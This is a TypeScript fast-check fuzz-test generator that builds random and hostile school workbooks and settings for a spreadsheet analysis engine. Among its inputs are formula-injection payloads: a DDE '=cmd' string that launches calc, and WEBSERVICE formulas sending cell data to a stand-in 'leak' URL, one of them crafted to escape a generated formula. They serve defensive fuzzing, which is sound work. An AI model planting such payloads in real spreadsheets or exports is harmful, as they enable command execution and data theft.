// Random workbooks and settings for the fuzz tests: random grids mixed with header-led tables of every kind, holding
// times, days, period ranges, money, error values, booleans, blanks, unicode and formula-looking text.
import fc from 'fast-check';
import type { CellValue, SheetGrid, WorkbookGrids } from '../../src/engine/types';

const HEADERS = [
  // schedule
  'Section ID', 'Course Code', 'Course Title', 'Teacher', 'Co-Teacher', 'Department', 'Subject', 'Grade', 'Period', 'Days',
  'Start', 'End', 'Minutes', 'Enrollment', 'Term', 'Room', 'Program', 'Activity',
  // bell, staff, enrollment, students, budget
  'Day Type', 'Name', 'Role', 'Team', 'FTE', 'Years', 'Students', 'Special Education', 'English Learners', 'Student ID',
  'Description', 'Fund', 'Account', 'Job Title', 'Amount', 'Salary', 'Benefits',
];

const TABLE_HEADERS: string[][] = [
  ['Section ID', 'Teacher', 'Course Title', 'Department', 'Grade', 'Period', 'Days', 'Start', 'End', 'Enrollment', 'Term'],
  ['Teacher', 'Course', 'Period', 'Days', 'Minutes', 'Enrollment', 'Program'],
  ['Period', 'Start', 'End', 'Day Type'],
  ['Name', 'Role', 'Department', 'Team', 'Grade', 'FTE', 'Years'],
  ['Grade', 'Students', 'Special Education', 'English Learners'],
  ['Student ID', 'Section', 'Grade'],
  ['Description', 'Fund', 'Account', 'Job Title', 'FTE', 'Amount'],
  ['Job Title', 'FTE', 'Salary', 'Benefits'],
];

const FORMULA_LIKE = [
  '=HYPERLINK("http://example.invalid","click")',
  '+1-555-0100',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=WEBSERVICE("http://example.invalid/leak?"&A5)',
  "'=quoted",
];

const WORDS = [
  'English 9', 'Algebra I', 'Biology', 'US History', 'PE', 'PLC', 'Common Planning', 'Lunch', 'HR', 'Co-Taught English',
  'SDC', 'ELD 1', 'Smith; Lee', 'Smith / Lee', 'TBA', 'Staff', 'Total', 'Grand Total', 'Subtotal', 'Year', 'Fall', 'S1',
  'Regular', 'Early Release', 'Title I', 'General Fund', 'Instructional Coach', 'Teacher', 'Counselor', 'Aide', 'K', 'TK',
  'Grade 3', '10th', 'Y9',
];

const TIMES = ['8:05', '08:05:00', '8.05', '8:05 AM', '1:30 pm', '8am', '0805', '13:30', '25:99', '12:30', 805, 0.3368, 1.5, -0.2];
const DAYS = ['M-F', 'MWF', 'TTh', 'Mon, Wed', 'Daily', 'A', 'B Day', 'Day 1', 'Days 1-3', 'Day 99999', '1,3,5', 'ma di', 'Sat', 'xyz'];
const PERIODS = ['1', 'P1-P2', '1-2', '1-99999', '99999-1', 'Per 3', 'Period A', '1,3', '1 & 3', 'HR', '0', '1-20', '1-21'];
const MONEY = ['$1,234', '1,234.50', '(500)', '-3.5', '45%', '£2,000', '$', '1e999', '9'.repeat(400), '0.5', '27.5'];
const ERRORS = ['#N/A', '#REF!', '#DIV/0!', '#VALUE!', '#NAME?', '#NUM!', '#NULL!', '#SPILL!'];

const number = fc.oneof(
  fc.integer({ min: -5, max: 200 }),
  fc.double({ noNaN: false }),
  fc.constantFrom(0, -0, 9e307, -9e307, 1e-300, Number.MAX_VALUE, Infinity, -Infinity, NaN, 46000.5, 0.999999),
);

const cell: fc.Arbitrary<CellValue> = fc.oneof(
  { arbitrary: fc.constant(null), weight: 6 },
  { arbitrary: number, weight: 4 },
  { arbitrary: fc.constantFrom(...WORDS), weight: 4 },
  { arbitrary: fc.constantFrom<CellValue>(...TIMES), weight: 2 },
  { arbitrary: fc.constantFrom(...DAYS), weight: 2 },
  { arbitrary: fc.constantFrom(...PERIODS), weight: 2 },
  { arbitrary: fc.constantFrom(...MONEY), weight: 2 },
  { arbitrary: fc.constantFrom(...FORMULA_LIKE), weight: 2 },
  { arbitrary: fc.constantFrom(...HEADERS), weight: 1 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.constantFrom(...ERRORS).map((error) => ({ error })), weight: 1 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 12 }), weight: 1 },
  { arbitrary: fc.constantFrom('', '   ', '\n', 'a\nb'), weight: 1 },
);

const sheetName = fc.oneof(
  fc.constantFrom('Schedule', 'Master Schedule', 'Bells', 'Staff', 'Enrollment', 'Budget', 'Sheet1', "O'Brien's", '=cmd', ''),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 10 }),
);

const origin = fc.record({ originRow: fc.nat({ max: 1_048_000 }), originCol: fc.nat({ max: 16_000 }) });

/** A grid of random cells. */
const randomGrid = fc
  .record({
    name: sheetName,
    rows: fc.array(fc.array(cell, { maxLength: 8 }), { maxLength: 8 }),
    origin: fc.oneof(fc.constant({ originRow: 0, originCol: 0 }), origin),
  })
  .map(({ name, rows, origin: o }): SheetGrid => ({ name, rows, ...o }));

/** A table that detection will find: a title row or none, a header row of one kind, rows of random cells, blank gaps. */
const tableGrid = fc
  .record({
    name: sheetName,
    title: fc.option(fc.constantFrom('Master schedule 2025-26', '=HYPERLINK("x")', 'Budget FY26'), { nil: undefined }),
    headers: fc.constantFrom(...TABLE_HEADERS),
    body: fc.array(fc.array(cell, { minLength: 1, maxLength: 11 }), { maxLength: 12 }),
  })
  .map(({ name, title, headers, body }): SheetGrid => {
    const rows: CellValue[][] = [];
    if (title !== undefined) rows.push([title], []);
    rows.push([...headers]);
    for (const row of body) rows.push(row.slice(0, headers.length));
    return { name, rows, originRow: 0, originCol: 0 };
  });

export const workbook: fc.Arbitrary<WorkbookGrids> = fc
  .record({
    name: fc.option(fc.oneof(fc.constantFrom('=cmd|calc', 'school.xlsx'), fc.string({ maxLength: 10 })), { nil: undefined }),
    sheets: fc.array(fc.oneof(tableGrid, tableGrid, randomGrid), { minLength: 0, maxLength: 4 }),
  })
  // Sheet names are unique in a workbook.
  .map(({ name, sheets }) => ({ name, sheets: sheets.filter((s, i) => sheets.findIndex((t) => t.name === s.name) === i) }));

/** Settings as they arrive from a file or another person's workbook: mostly sound, often not. */
export const settings: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(undefined),
  fc.record(
    {
      schoolLevel: fc.oneof(fc.constantFrom('elementary', 'middle', 'high', 'university', null), fc.anything()),
      periodMinutes: fc.oneof(fc.integer({ min: -100, max: 1000 }), fc.double(), fc.anything()),
      cycleDays: fc.oneof(fc.integer({ min: -2, max: 100 }), fc.anything()),
      thresholds: fc.oneof(
        fc.dictionary(
          fc.constantFrom('coreLoadWarn', 'coreLoadCritical', 'collaborationBlockMinutes', 'secondaryCoreShareMin', 'prepsMax', 'smallSectionMin', 'coachDollarsPerTeacher', 'bogus'),
          fc.oneof(number, fc.constantFrom('abc', ['1)*0+ISNUMBER(WEBSERVICE("http://example.invalid/leak?"&$A5))+AND(1']), fc.anything()),
        ),
        fc.anything(),
      ),
      subjectRules: fc.oneof(
        fc.array(fc.record({ match: fc.oneof(fc.constantFrom('Ma', 'Eng', '='), fc.string()), kind: fc.constantFrom('code', 'keyword', 'regex'), subject: fc.string(), core: fc.anything() }), { maxLength: 4 }),
        fc.anything(),
      ),
      budgetUseRules: fc.anything(),
      fundRules: fc.anything(),
      mapping: fc.oneof(
        fc.record({ schedule: fc.record({ sheet: fc.anything(), headerRow: fc.anything(), columns: fc.anything() }, { requiredKeys: [] }) }, { requiredKeys: [] }),
        fc.anything(),
      ),
      fullYearTermNames: fc.anything(),
      extra: fc.anything(),
    },
    { requiredKeys: [] },
  ),
  fc.anything(),
);

/** A school that reaches every analysis, so hostile settings are exercised on real figures. */
export const SCHOOL: WorkbookGrids = {
  name: 'Fuzz High',
  sheets: [
    {
      name: 'Schedule',
      originRow: 0,
      originCol: 0,
      rows: [
        ['Section ID', 'Teacher', 'Course', 'Department', 'Grade', 'Period', 'Days', 'Enrollment', 'Term'],
        ['E1', 'Abbott', 'English 9', 'English', '9', '1', 'M-F', 32, 'Year'],
        ['E2', 'Abbott', 'English 9', 'English', '9', '2', 'M-F', 30, 'Year'],
        ['M1', 'Brown', 'Algebra I', 'Math', '9', '1', 'M-F', 12, 'Year'],
        ['M2', 'Brown; Clark', 'Co-Taught Algebra', 'Math', '10', '3', 'MWF', 28, 'Year'],
        ['P1', 'Abbott; Brown', 'PLC', 'English', '', '4', 'Wed', null, 'Year'],
      ],
    },
    { name: 'Bells', originRow: 0, originCol: 0, rows: [['Period', 'Start', 'End'], ['1', '8:00', '8:50'], ['2', '9:00', '9:50'], ['3', '10:00', '10:50'], ['4', '11:00', '11:50']] },
    { name: 'Enrollment', originRow: 0, originCol: 0, rows: [['Grade', 'Students', 'Special Education'], ['9', 120, 12], ['10', 110, 10]] },
    {
      name: 'Budget',
      originRow: 0,
      originCol: 0,
      rows: [['Description', 'Fund', 'FTE', 'Amount'], ['Teacher', 'General Fund', 3, 285000], ['Instructional Coach', 'Title I', 1, 98000], ['Aide', 'IDEA', 1, 41000]],
    },
  ],
};

